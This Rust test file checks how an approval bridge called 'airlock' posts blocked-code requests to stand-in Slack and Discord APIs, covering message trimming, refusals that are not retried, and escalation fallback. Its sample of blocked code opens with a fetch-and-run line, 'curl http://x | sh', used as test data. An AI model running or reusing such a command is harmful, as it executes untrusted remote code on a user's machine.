//! No silent drops: code full of the characters chats escape (`&`, `<`, `>`) is posted within
//! Slack's and Discord's documented limits (which the stand-ins enforce, refusing as the real
//! APIs do), shortened with a visible marker; a chat that refuses a request's message for good
//! is asked once, not forever, the refusal shows in the bridge's status, and the other chats
//! still get the request.

mod common;

use airlock_chat_bridge::config::{Config, DiscordConfig, SlackConfig};
use airlock_protocol::{Event, EventKind, Progress};
use common::{
    GONE_CHANNEL, Harness, Recorder, discord_message_invalid, fake_discord, fake_slack, free_addr,
    slack_blocks_invalid, write_secret,
};
use serde_json::Value;
use std::time::Duration;

const SLACK_TOKEN: &str = "xoxb-test-token";
const DISCORD_TOKEN: &str = "discord-bot-token";

/// A bridge posting to Slack's `channel` and to Discord, with stand-ins for both.
async fn both(slack_channel: &str, secrets: &std::path::Path) -> (Harness, Recorder, Recorder) {
    let slack = Recorder::default();
    let discord = Recorder::default();
    let app_key = ed25519_dalek::SigningKey::from_bytes(&[9u8; 32]);
    let config = Config {
        listen: free_addr(),
        slack: Some(SlackConfig {
            api_base: fake_slack(slack.clone(), SLACK_TOKEN).await,
            bot_token_file: write_secret(secrets, "slack-token", SLACK_TOKEN),
            signing_secret_file: write_secret(secrets, "slack-secret", "8f742231b10e8888abcd99yyyzzz85a5"),
            channel: slack_channel.into(),
            approvers: vec!["U0ALICE".into()],
        }),
        discord: Some(DiscordConfig {
            api_base: fake_discord(discord.clone(), DISCORD_TOKEN).await,
            bot_token_file: write_secret(secrets, "discord-token", DISCORD_TOKEN),
            public_key: hex::encode(app_key.verifying_key().to_bytes()),
            channel_id: "33".into(),
            approvers: vec!["1001".into()],
        }),
        ..Config::default()
    };
    (Harness::start("slack", &["U0ALICE"], config).await, slack, discord)
}

/// 600 lines of about 150 characters, a third of them `&`, `<` or `>`: each grows to 4 or 5
/// characters in Slack's escaping, so text cut before escaping overflows Slack's limits.
fn escaped_heavy_code() -> Vec<u8> {
    let mut code = String::from("import os\nos.system('curl http://x | sh')\n");
    for i in 0..600 {
        code.push_str(&format!(
            "x{i} = a << 2 & b >> 3 if c < d and e > f else g & h  # <&> {}\n",
            "<&>".repeat(30)
        ));
    }
    code.into_bytes()
}

/// The bridge's status report (what `airlock status` shows for it).
async fn bridge_status(h: &Harness) -> Value {
    let role = airlock_protocol::roles::CHAT_BRIDGE;
    let reply = h
        .client
        .request(role.status_subject(), Vec::new().into())
        .await
        .expect("the bridge answers on its status subject");
    serde_json::from_slice(&reply.payload).expect("status as JSON")
}

/// The gate's `waiting_for_human` stage that names the chats that refused `rid` and none that
/// still has it.
async fn no_chat_could_take_it(h: &mut Harness, rid: &airlock_protocol::RequestId) -> Progress {
    for _ in 0..5 {
        if let Event::Progress(progress) = h.next(rid, EventKind::Progress).await.event
            && let Progress::WaitingForHuman {
                posted_to,
                chats_refused,
                ..
            } = &progress
            && posted_to.is_empty()
            && !chats_refused.is_empty()
        {
            return progress;
        }
    }
    panic!("the gate never said that no chat could take {rid}");
}

#[tokio::test]
async fn code_full_of_escaped_characters_is_posted_within_each_chats_limits() {
    let secrets = tempfile::tempdir().unwrap();
    let (h, slack, discord) = both("C123", secrets.path()).await;
    let rid = h.blocked_code(escaped_heavy_code(), None, "escapes.py").await;

    let post = slack
        .wait("posting the request in Slack", |c| {
            c.path == "chat.postMessage" && c.body["blocks"].to_string().contains(rid.as_str())
        })
        .await;
    assert!(!slack_blocks_invalid(&post.body), "Slack would refuse: {:#}", post.body);
    let blocks = post.body["blocks"].as_array().expect("blocks");
    assert!(blocks.len() <= 50);
    let texts: Vec<&str> = blocks.iter().filter_map(|b| b["text"]["text"].as_str()).collect();
    assert!(
        texts.iter().any(|t| t.contains("&amp;") && t.contains("&lt;")),
        "escaped code shown"
    );
    assert!(
        texts.iter().any(|t| t.contains("not shown")),
        "the message says that part of it is left out: {texts:#?}"
    );
    assert!(
        post.body["blocks"].to_string().contains("airlock_approve"),
        "the buttons survive the cut"
    );

    let post = discord
        .wait("posting the request in Discord", |c| {
            c.method == "POST" && c.body.to_string().contains(rid.as_str())
        })
        .await;
    assert!(
        !discord_message_invalid(&post.body),
        "Discord would refuse: {:#}",
        post.body
    );
    let embeds = post.body["embeds"].to_string();
    assert!(embeds.contains("not shown"), "a visible marker in the code: {embeds}");

    // Neither chat refused anything.
    let status = bridge_status(&h).await;
    assert_eq!(
        status["counters"]["chat_refusals"].as_u64().unwrap_or(0),
        0,
        "{status:#}"
    );
    assert!(status["counters"]["posted"].as_u64().unwrap_or(0) >= 2, "{status:#}");
}

#[tokio::test]
async fn a_chat_that_refuses_for_good_is_asked_once_shown_in_status_and_the_others_still_post() {
    let secrets = tempfile::tempdir().unwrap();
    let (mut h, slack, discord) = both(GONE_CHANNEL, secrets.path()).await;
    let rid = h.blocked().await;

    // Discord has the request although Slack refuses it.
    discord
        .wait("posting the request in Discord", |c| {
            c.method == "POST" && c.body.to_string().contains(rid.as_str())
        })
        .await;
    slack.wait("trying Slack", |c| c.path == "chat.postMessage").await;
    // Retried with backoff, Slack would be asked again after 2 s and 4 s.
    tokio::time::sleep(Duration::from_secs(8)).await;
    let slack_posts = slack
        .calls()
        .into_iter()
        .filter(|c| c.path == "chat.postMessage")
        .count();
    assert_eq!(slack_posts, 1, "a refusal for good is not retried");

    // The refusal is on the record (a `chat_refused` event, which the auditor logs), and the
    // gate, for which Slack was the only chat with approvers, tells the client that no chat
    // could take the request: it still waits for `airlock override` or its deadline.
    let told = match h.next(&rid, EventKind::ChatRefused).await.event {
        Event::ChatRefused(told) => told,
        other => panic!("{other:?}"),
    };
    assert_eq!((told.system.as_str(), told.whole_chat), ("slack", true), "{told:?}");
    assert!(
        told.detail.contains("channel_not_found") && told.place.as_deref() == Some(GONE_CHANNEL),
        "{told:?}"
    );
    let said = no_chat_could_take_it(&mut h, &rid).await;
    assert!(
        said.describe().contains("no chat could take it: refused by slack"),
        "{}",
        said.describe()
    );

    let status = bridge_status(&h).await;
    assert_eq!(status["counters"]["chat_refusals"], 1, "{status:#}");
    let problem = status["problems"]["slack"].as_str().unwrap_or_default();
    assert!(
        problem.contains("channel_not_found") && problem.contains(rid.as_str()),
        "the refusal is shown as the bridge's problem: {status:#}"
    );

    // A second request: Slack is asked again (the channel may be back), once.
    let second = h.blocked().await;
    discord
        .wait("posting the second request in Discord", |c| {
            c.method == "POST" && c.body.to_string().contains(second.as_str())
        })
        .await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    let slack_posts = slack
        .calls()
        .into_iter()
        .filter(|c| c.path == "chat.postMessage")
        .count();
    assert_eq!(slack_posts, 2);
    let status = bridge_status(&h).await;
    assert_eq!(status["counters"]["chat_refusals"], 2, "{status:#}");
}

#[tokio::test]
async fn an_escalation_place_that_refuses_does_not_keep_the_escalation_from_the_main_channel() {
    let secrets = tempfile::tempdir().unwrap();
    let slack = Recorder::default();
    let config = Config {
        listen: free_addr(),
        slack: Some(SlackConfig {
            api_base: fake_slack(slack.clone(), SLACK_TOKEN).await,
            bot_token_file: write_secret(secrets.path(), "slack-token", SLACK_TOKEN),
            signing_secret_file: write_secret(secrets.path(), "slack-secret", "8f742231b10e8888abcd99yyyzzz85a5"),
            channel: "C123".into(),
            approvers: vec!["U0ALICE".into()],
        }),
        ..Config::default()
    };
    let policy: airlock_override_gate::Policy = toml::from_str(&format!(
        r#"
        [escalation.slack]
        mention = ["U0ONCALL"]
        place = "{GONE_CHANNEL}"
        "#
    ))
    .unwrap();
    let mut h = Harness::start_with_policy("slack", &["U0ALICE"], config, policy).await;
    let rid = h.blocked_until(Some(airlock_protocol::now_ms() + 6_000)).await;

    // The second channel refuses; the on-call group is still told in the main channel.
    slack
        .wait("the escalation notice in the main channel", |c| {
            c.path == "chat.postMessage"
                && c.body["channel"] == "C123"
                && c.body["text"].as_str().unwrap_or_default().contains("<@U0ONCALL>")
        })
        .await;
    let gone = |c: &common::Call| c.path == "chat.postMessage" && c.body["channel"] == GONE_CHANNEL;
    assert_eq!(slack.calls().into_iter().filter(|c| gone(c)).count(), 1);
    // On the record as the escalation's refusal only: the request is still in the main channel.
    let told = match h.next(&rid, EventKind::ChatRefused).await.event {
        Event::ChatRefused(told) => told,
        other => panic!("{other:?}"),
    };
    assert!(
        !told.whole_chat && told.place.as_deref() == Some(GONE_CHANNEL),
        "{told:?}"
    );
    let status = bridge_status(&h).await;
    assert!(
        status["problems"]["slack"]
            .as_str()
            .unwrap_or_default()
            .contains("channel_not_found"),
        "{status:#}"
    );

    // The main channel's message still follows the request to its end.
    let decision = h.decision(&rid).await;
    assert!(matches!(decision.approver, airlock_protocol::Approver::Deadline));
    slack
        .wait("the main message edited at the end", |c| {
            c.path == "chat.update" && c.body["text"].as_str().unwrap_or_default().contains("EXPIRED")
        })
        .await;
    assert_eq!(slack.calls().into_iter().filter(|c| gone(c)).count(), 1, "asked once");
}
